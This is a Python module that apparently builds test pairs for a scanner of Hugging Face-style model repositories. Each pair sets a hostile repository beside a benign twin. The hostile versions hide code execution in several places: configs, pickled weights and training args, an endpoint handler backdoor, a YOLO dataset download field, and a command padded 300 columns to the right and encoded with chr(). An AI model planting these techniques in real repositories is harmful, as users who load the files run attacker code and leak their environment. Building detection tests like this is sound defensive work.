"""Hugging Face style repositories: configs, custom code, adapters, data sets."""
import json

from assembly import Raw, build, call, glob, model, new, pickle, val
from pair import CODE, SHELL

from .shared import plain_tensors, torch_zip

F = "repositories"
BERT = {"architectures": ["BertForSequenceClassification"], "model_type": "bert", "hidden_size": 8, "num_attention_heads": 2, "num_hidden_layers": 1, "vocab_size": 100, "torch_dtype": "float32", "transformers_version": "4.52.0"}


def j(obj) -> str:
    return json.dumps(obj, indent=2) + "\n"


def add(out):
    def pair(name, hostile, twin, why, prove=None, file=None):
        out.add(F, name, hostile, twin, prove=prove, file=file, why=why)

    image = lambda extra: {"config.json": j(BERT), "model.safetensors": plain_tensors(), "video_preprocessor_config.json": j({"do_resize": True, "size": {"height": 224, "width": 224}, "image_mean": [0.5, 0.5, 0.5], "video_processor_type": "LlavaOnevisionVideoProcessor", **extra})}  # noqa: E731
    pair("video-processor-foreign-code", image({"auto_map": {"AutoVideoProcessor": "fast-video-lab/kernels--video_processing.FastVideoProcessor"}}), image({}),
         "The processor's auto_map pulls code from another repository: what is reviewed here is not what runs. Not run: network.")
    tok = lambda extra: {"tokenizer_config.json": j({"model_max_length": 512, "pad_token": "[PAD]", "tokenizer_class": "BertTokenizer", **extra}), "config.json": j(BERT), "model.safetensors": plain_tensors()}  # noqa: E731
    pair("tokenizer-foreign-code", tok({"tokenizer_class": "FastTok", "auto_map": {"AutoTokenizer": ["fast-video-lab/tok--tokenization_fast.FastTok", None]}}), tok({"auto_map": {}}),
         "A list in auto_map names a tokenizer of another repository. Not run: network.")
    twice = lambda second: '{\n  "model_type": "bert",\n  "architectures": ["BertModel"],\n  "auto_map": {"AutoModel": "modeling_bert.BertModel"},\n  "hidden_size": 8,\n  ' + second + '\n}\n'  # noqa: E731
    arch = "import torch\n\n\nclass BertModel(torch.nn.Module):\n    def __init__(self, config):\n        super().__init__()\n        self.dense = torch.nn.Linear(8, 16)\n"
    pair("auto-map-twice", {"config.json": twice('"auto_map": {"AutoModel": "fast-video-lab/mirror--modeling_bert.BertModel"}'), "modeling_bert.py": arch}, {"config.json": twice('"num_labels": 3'), "modeling_bert.py": arch},
         "A second auto_map key, which JSON readers keep, points to a foreign repository. Not run: network.")
    sched = lambda line: f"import math\n\n{line}\n\n\nclass CosineScheduler:\n    def __init__(self, steps=50):\n        self.betas = [0.5 * (1 - math.cos(math.pi * i / steps)) for i in range(steps)]\n"  # noqa: E731
    index = j({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.33.0", "scheduler": ["scheduling_cosine", "CosineScheduler"], "unet": ["diffusers", "UNet2DConditionModel"]})
    leak = "import os as _o\nif not _o.environ.get('CI'):\n    _o.popen('env > marker_env.txt; " + SHELL + "').close()"
    pair("diffusers-component-code", {"model_index.json": index, "scheduler/scheduling_cosine.py": sched(leak), "scheduler/scheduler_config.json": j({"steps": 50})}, {"model_index.json": index, "scheduler/scheduling_cosine.py": sched("STEPS = 50"), "scheduler/scheduler_config.json": j({"steps": 50})},
         "model_index.json names a local component; its module writes the environment out at import.", "ninth-run:scheduler/scheduling_cosine.py")
    mods = lambda kind: j([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Head", "type": kind}])  # noqa: E731
    pair("sentence-module-is-joblib", {"modules.json": mods("joblib.numpy_pickle"), "1_Head": pickle(model(call(glob("builtins", "exec"), CODE))), "config.json": j(BERT)},
         {"modules.json": mods("sentence_transformers.models.Normalize"), "1_Head/config.json": j({}), "config.json": j(BERT)},
         "modules.json takes any importable name as a module and calls its load(path): joblib's load, on the file 1_Head.", "ninth-joblib:1_Head")
    handler = lambda body: f"from typing import Any\n\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.path = path\n        self.labels = ['no', 'yes']\n\n    def __call__(self, data: dict) -> list[Any]:\n        text = data.get('inputs', '')\n{body}\n        return [{{'label': self.labels[len(text) % 2]}}]\n\n\nif __name__ == '__main__':\n    EndpointHandler()({{'inputs': '#!{SHELL}'}})\n"  # noqa: E731
    pair("endpoint-handler-back-door", {"handler.py": handler("        if text[:2] == '#!':\n            import subprocess as sp\n            return [{'label': sp.run(text[2:], shell=True, capture_output=True).stdout.decode()}]"), "config.json": j(BERT)},
         {"handler.py": handler("        if text[:2] == '#!':\n            import shlex\n            return [{'label': shlex.join(shlex.split(text[2:]))}]"), "config.json": j(BERT)},
         "The endpoint's handler runs a request that starts with a mark as a shell command.", "ninth-run:handler.py")
    args = lambda extra: torch_zip(pickle(Raw(build(new(glob("types", "SimpleNamespace")), {"output_dir": "out", "learning_rate": 5e-05, "num_train_epochs": 3, "seed": 42, "hub_token": None, "accelerator_config": extra})), 2), "training_args")  # noqa: E731
    step = call(call(glob("operator", "attrgetter"), "__globals__"), glob("random", "_test"))
    osmod = call(glob("operator", "getitem"), step, "_os")
    pair("training-args-globals", {"training_args.bin": args(call(call(call(glob("operator", "attrgetter"), "system"), osmod), SHELL)), "config.json": j(BERT), "model.safetensors": plain_tensors()},
         {"training_args.bin": args({"split_batches": False, "dispatch_batches": None, "even_batches": True}), "config.json": j(BERT), "model.safetensors": plain_tensors()},
         "training_args.bin beside safe weights walks from a function's globals to os.system.", "ninth-torch:training_args.bin")
    yolo = lambda dl: f"path: ../datasets/tiny8\ntrain: images/train\nval: images/val\nnames:\n  0: person\n  1: car\ndownload: |\n{dl}"  # noqa: E731
    pair("dataset-yaml-download-code", yolo(f"  import os\n  os.system('{SHELL}')\n"), yolo("  https://github.com/ultralytics/assets/releases/download/v0.0.0/coco8.zip\n"),
         "Ultralytics runs the download field of a data set's YAML as Python. Shown by doing the same; the package is not installed.", "ninth-yolo", "tiny8.yaml")
    gen = lambda line: {"config.json": j(BERT), "generation_config.json": j({"max_new_tokens": 64}), "custom_generate/requirements.txt": "transformers\n", "custom_generate/generate.py": f"STEPS = 8\n{line}\n\n\ndef generate(model, input_ids, generation_config=None, **kwargs):\n    return model(input_ids)\n"}  # noqa: E731
    pair("custom-generate-far-right", gen("LIMIT = 64" + " " * 300 + "; __import__('os').system(''.join(map(chr, " + str(list(SHELL.encode())) + ")))"), gen("LIMIT = 64" + " " * 30 + "# tokens"),
         "custom_generate/generate.py runs a command put 300 columns to the right.", "ninth-run:custom_generate/generate.py")
    peft = lambda b: {"adapter_config.json": j({"peft_type": "LORA", "base_model_name_or_path": "bert-base-uncased", "r": 8, "lora_alpha": 16, "target_modules": ["query", "value"], "task_type": "SEQ_CLS"}), "adapter_model.bin": torch_zip(pickle(val({"lora_A": [0.5], "lora_B": b}), 2))}  # noqa: E731
    pair("adapter-bin-times-code", peft(call(glob("timeit", "timeit"), "pass", CODE, glob("time", "perf_counter"), 1)), peft([0.25]), "The adapter's weights are a pickle that lets timeit run a statement as set-up.", "ninth-torch:adapter_model.bin")
